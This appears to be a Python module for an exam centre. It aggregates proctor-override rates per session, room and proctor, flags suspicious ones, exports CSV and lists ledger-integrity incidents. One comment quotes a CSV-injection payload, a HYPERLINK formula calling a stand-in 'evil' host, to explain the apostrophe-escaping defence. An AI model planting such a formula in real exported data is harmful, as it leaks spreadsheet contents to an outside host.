"""Override-rate reports per session, room and proctor.

An override is a proctor letting in someone the kiosk refused; a proctor or room whose
overrides are a large share of check-ins is how paid-for stand-ins would show up, so the
report flags every group whose `override_rate` exceeds `centre.override_rate_alert`.

Definitions (all counts are of records stored at the centre):

* `checkins` — checkin records (attempts); `accepted`, `rejections`, `needs_proctor` split
  them by decision;
* `overrides` — override records;
* `override_rate` — overrides / checkins (0 when there were no check-ins);
* for a proctor, `checkins` are those of the sessions the proctor worked (appears in a
  checkin or override record of), since a checkin record may not name the proctor on duty.

Only aggregate counts leave this module: no applicant ids, so `viewer` may read it.
"""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from dataclasses import asdict, dataclass, field
from typing import Any

from sqlalchemy import func, select
from sqlalchemy.orm import Session

from centre.models import Device, Incident, StoredRecord

UNKNOWN = "(none)"


@dataclass
class GroupCounts:
    key: str
    checkins: int = 0
    accepted: int = 0
    rejections: int = 0
    needs_proctor: int = 0
    overrides: int = 0
    rooms: set[str] = field(default_factory=set)

    @property
    def override_rate(self) -> float:
        return self.overrides / self.checkins if self.checkins else 0.0

    def to_dict(self, alert: float) -> dict[str, Any]:
        d = asdict(self)
        d["rooms"] = sorted(self.rooms)
        d["override_rate"] = round(self.override_rate, 6)
        # Overrides with no check-ins at all are the most suspicious case of all.
        d["flagged"] = self.override_rate > alert or (self.overrides > 0 and self.checkins == 0)
        return d


@dataclass
class OverrideReport:
    alert_threshold: float
    sessions: list[dict[str, Any]]
    rooms: list[dict[str, Any]]
    proctors: list[dict[str, Any]]
    totals: dict[str, Any]
    # Open ledger-integrity incidents per device: an override report that counts only the
    # records that arrived would hide the ones a kiosk lost or rewrote (heads.py).
    ledger_incidents: list[dict[str, Any]] = field(default_factory=list)

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)

    def to_csv(self) -> str:
        cols = [
            "scope",
            "key",
            "rooms",
            "checkins",
            "accepted",
            "rejections",
            "needs_proctor",
            "overrides",
            "override_rate",
            "flagged",
        ]
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=cols, extrasaction="ignore", lineterminator="\n")
        writer.writeheader()
        for scope, groups in (
            ("session", self.sessions),
            ("room", self.rooms),
            ("proctor", self.proctors),
            ("total", [self.totals]),
        ):
            for g in groups:
                row = {**g, "scope": scope, "rooms": ";".join(g["rooms"])}
                writer.writerow({k: csv_cell(v) for k, v in row.items()})
        return out.getvalue()


# A spreadsheet runs a cell that starts with one of these as a formula: a proctor or session
# id like `=HYPERLINK("http://evil/?"&A1)` would leak the sheet or run code on the auditor's
# machine (OWASP "CSV injection"). Such text cells get a leading apostrophe, which the
# spreadsheet shows as text and does not evaluate.
_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A value safe to write into a CSV cell an auditor opens in a spreadsheet."""
    if isinstance(value, str) and value.startswith(_FORMULA_PREFIXES):
        return "'" + value
    return value


def _add(g: GroupCounts, rtype: str, decision: str | None, n: int, room: str | None) -> None:
    if room:
        g.rooms.add(room)
    if rtype == "override":
        g.overrides += n
        return
    g.checkins += n
    if decision == "accepted":
        g.accepted += n
    elif decision == "rejected":
        g.rejections += n
    elif decision == "needs_proctor":
        g.needs_proctor += n


def override_report(
    db: Session,
    *,
    alert: float,
    since: str | None = None,
    until: str | None = None,
    room: str | None = None,
) -> OverrideReport:
    """Aggregate in SQL to small groups, then roll up per dimension in Python."""
    q = (
        select(
            StoredRecord.session_id,
            StoredRecord.room,
            StoredRecord.proctor_id,
            StoredRecord.type,
            StoredRecord.decision,
            func.count(),
        )
        .where(StoredRecord.type.in_(("checkin", "override")))
        .group_by(
            StoredRecord.session_id,
            StoredRecord.room,
            StoredRecord.proctor_id,
            StoredRecord.type,
            StoredRecord.decision,
        )
    )
    if since:
        q = q.where(StoredRecord.ts >= since)
    if until:
        q = q.where(StoredRecord.ts < until)
    if room:
        q = q.where(StoredRecord.room == room)
    rows = [(s or UNKNOWN, r, p, t, d, int(n)) for s, r, p, t, d, n in db.execute(q)]

    sessions: dict[str, GroupCounts] = {}
    rooms: dict[str, GroupCounts] = {}
    total = GroupCounts("all")
    proctor_sessions: dict[str, set[str]] = defaultdict(set)
    proctor_overrides: dict[str, int] = defaultdict(int)
    for session_id, room_id, proctor, rtype, decision, n in rows:
        _add(sessions.setdefault(session_id, GroupCounts(session_id)), rtype, decision, n, room_id)
        _add(
            rooms.setdefault(room_id or UNKNOWN, GroupCounts(room_id or UNKNOWN)),
            rtype,
            decision,
            n,
            room_id,
        )
        _add(total, rtype, decision, n, room_id)
        if proctor:
            proctor_sessions[proctor].add(session_id)
            if rtype == "override":
                proctor_overrides[proctor] += n

    proctors: list[GroupCounts] = []
    for proctor, sess in proctor_sessions.items():
        g = GroupCounts(proctor)
        for s in sess:
            sg = sessions[s]
            g.checkins += sg.checkins
            g.accepted += sg.accepted
            g.rejections += sg.rejections
            g.needs_proctor += sg.needs_proctor
            g.rooms |= sg.rooms
        g.overrides = proctor_overrides[proctor]
        proctors.append(g)

    def dump(groups: list[GroupCounts]) -> list[dict[str, Any]]:
        return [g.to_dict(alert) for g in sorted(groups, key=lambda g: g.key)]

    return OverrideReport(
        alert_threshold=alert,
        sessions=dump(list(sessions.values())),
        rooms=dump(list(rooms.values())),
        proctors=dump(proctors),
        totals=total.to_dict(alert),
        ledger_incidents=ledger_incidents(db, room=room),
    )


LEDGER_INCIDENT_KINDS = (
    "head_rollback",
    "head_mismatch",
    "seq_reused",
    "gap",
    "fork",
    "prev_mismatch",
    "chain_broken",
)


def ledger_incidents(db: Session, *, room: str | None = None) -> list[dict[str, Any]]:
    """Open incidents that say a device's ledger lost or rewrote records, per device and
    kind (the device's room, counts and the latest detail; no applicant data)."""
    q = (
        select(Incident, Device.room)
        .join(Device, Device.id == Incident.device_id, isouter=True)
        .where(Incident.kind.in_(LEDGER_INCIDENT_KINDS), Incident.resolved_at.is_(None))
        .order_by(Incident.id)
    )
    if room:
        q = q.where(Device.room == room)
    groups: dict[tuple[str, str], dict[str, Any]] = {}
    for incident, device_room in db.execute(q):
        key = (incident.device_id or UNKNOWN, incident.kind)
        g = groups.setdefault(
            key,
            {
                "device_id": key[0],
                "room": device_room,
                "kind": incident.kind,
                "incidents": 0,
                "occurrences": 0,
            },
        )
        g["incidents"] += 1
        g["occurrences"] += incident.occurrences
        g["last_seq"] = incident.seq
        g["detail"] = incident.detail
    return [groups[k] for k in sorted(groups)]
